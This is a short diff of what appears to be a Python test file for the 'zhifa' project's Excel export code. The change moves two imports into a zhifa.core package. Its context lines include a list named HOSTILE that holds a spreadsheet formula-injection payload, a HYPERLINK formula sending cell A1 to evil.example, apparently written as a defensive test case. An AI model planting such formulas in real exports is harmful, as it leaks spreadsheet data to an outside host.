@@ -7,8 +7,8 @@ import io
 
 from openpyxl import load_workbook
 
-from zhifa.tabular import Column, template_workbook
-from zhifa.web.exports import xlsx_response
+from zhifa.core.exports import xlsx_response
+from zhifa.core.tabular import Column, template_workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
